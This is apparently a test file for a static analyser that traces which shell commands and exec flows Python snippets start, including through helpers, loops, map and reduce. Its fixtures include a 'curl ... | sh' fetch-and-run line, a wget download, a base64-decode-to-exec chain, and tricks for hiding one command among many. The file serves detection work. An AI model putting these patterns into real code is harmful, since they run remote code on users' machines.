import { expect, test } from 'vitest';
import { read } from './reading.js';

const FETCHES = 'curl https://garden.invalid/a | sh';
const commandsIn = async (text: string) => (await read(`import os, subprocess, functools\nfrom base64 import b64decode\n${text.replaceAll('FETCHES', FETCHES)}\n`)).facts?.calls('process').map((call) => call.text);

test.each([
  ['a helper that was called before', 'def sh(command):\n    return os.system(command)\nsh("ls")\nsh("FETCHES")'],
  ['a helper in a helper', 'def sh(command):\n    return os.system(command)\ndef go(c):\n    sh(c)\ngo("ls")\ngo("FETCHES")'],
  ['a method', 'class A:\n    def sh(self, command):\n        os.system(command)\na = A()\na.sh("ls")\na.sh("FETCHES")'],
  ['an argument with a name', 'def sh(command=""):\n    os.system(command)\nsh(command="ls")\nsh(command="FETCHES")'],
  ['a lambda', 'sh = lambda c: os.system(c)\nsh("ls")\nsh("FETCHES")'],
  ['a helper that puts a command together', 'def full(url):\n    return "curl " + url + " | sh"\nfull("a")\nos.system(full("https://garden.invalid/a"))'],
  ['a table of words', 'T = ["ls", "| sh", "curl https://garden.invalid/a"]\ndef t(n):\n    return T[n]\nos.system(t(0))\nos.system(t(2) + " " + t(1))'],
  ['a helper that is called with another module', 'def call(f, x):\n    f(x)\ncall(print, "ls")\ncall(os.system, "FETCHES")'],
])('what %s starts is known for each of its calls', async (_, text) => {
  expect(await commandsIn(text)).toContain(FETCHES);
});

test.each([
  ['a loop over commands', 'for c in ("mkdir /tmp/x", "wget -O /tmp/x/a https://garden.invalid/a", "FETCHES", "ls"):\n    os.system(c)'],
  ['a loop over pairs', 'for name, c in [("a", "ls"), ("b", "FETCHES")]:\n    print(name)\n    os.system(c)'],
  ['a loop that calls a helper', 'def sh(c):\n    os.system(c)\nfor c in ["ls", "FETCHES"]:\n    sh(c)'],
  ['map', 'list(map(os.system, ["ls", "FETCHES"]))'],
  ['reduce', 'functools.reduce(lambda v, f: f(v), (str, os.system), "FETCHES")'],
])('each element counts in %s', async (_, text) => {
  expect(await commandsIn(text)).toContain(FETCHES);
});

test('the ends of a loop over functions is the end of a flow', async () => {
  const flows = (await read('import functools\nfrom base64 import b64decode\nfunctools.reduce(lambda v, f: f(v), (b64decode, bytes.decode, exec), "cHJpbnQoMSk=")')).facts?.flows({ from: 'decoder', to: 'exec' });
  expect(flows).toHaveLength(1);
});

test('a helper that calls itself, or is called very often, is read an end', async () => {
  expect(await commandsIn('def f(n):\n    os.system(n)\n    f(n + "x")\nf("a")')).toContain('a');
  expect((await commandsIn(`def f(n):\n    os.system(n)\n${Array.from({ length: 500 }, (_, n) => `f("${n}")`).join('\n')}`))?.length).toBeLessThan(50);
});

test('a helper that functions are defined in is read once', async () => {
  expect(await commandsIn('def f(n):\n    def g():\n        os.system(n)\n    g()\nf("a")\nf("b")')).toEqual(['a']);
});

test('a command that does something is not hidden behind very many that do nothing', async () => {
  const harmless = Array.from({ length: 1_100 }, (_, n) => `sh("echo ${n}")`).join('\n');
  expect(await commandsIn(`def sh(c):\n    os.system(c)\ndef sh2(c):\n    os.system(c)\n${harmless}\n${harmless.replaceAll('sh(', 'sh2(')}\nsh("FETCHES")`)).toContain(FETCHES);
});

test('loops within loops, and helpers that call each other, cost no more than so much', async () => {
  const loops = Array.from({ length: 200 }, () => `${[0, 1, 2].map((depth) => `${'    '.repeat(depth)}for x${depth} in (${Array.from({ length: 12 }, (__, n) => `"${n}"`).join(', ')}):`).join('\n')}\n            os.system(x0 + x1 + x2)`).join('\n');
  expect((await commandsIn(loops))?.length).toBeLessThan(2_000);
  const helpers = Array.from({ length: 100 }, (_, n) => `def f${n}(a):\n    os.system(a)\n${Array.from({ length: 12 }, (__, m) => `    f${n + 1}(a + "${m}")`).join('\n')}`).join('\n');
  expect((await commandsIn(`${helpers}\nf0("a")`))?.length).toBeLessThan(3_000);
});

test.each([
  ['a helper gives back what it is given', 'def same(text):\n    if not text or PY3:\n        return text\n    return text.encode("utf8")\ndef folder(options):\n    return same(options.folder)\ndef go():\n    place = folder(options)\n    same("node-" + urlopen("https://garden.invalid/v").read())\n    os.system(". " + place)\ngo()'],
  ['a command line has other arguments', 'def go():\n    options = argparse.ArgumentParser().parse_args()\n    options.node = urlopen("https://garden.invalid/v").read()\n    os.system(". " + options.folder)\ngo()'],
])('what one call is given is not what another starts, where %s', async (_, text) => {
  const { facts } = await read(`import os, argparse\nfrom urllib.request import urlopen\n${text}\n`);
  expect(facts?.flows({ from: 'network', to: 'process' })).toEqual([]);
});
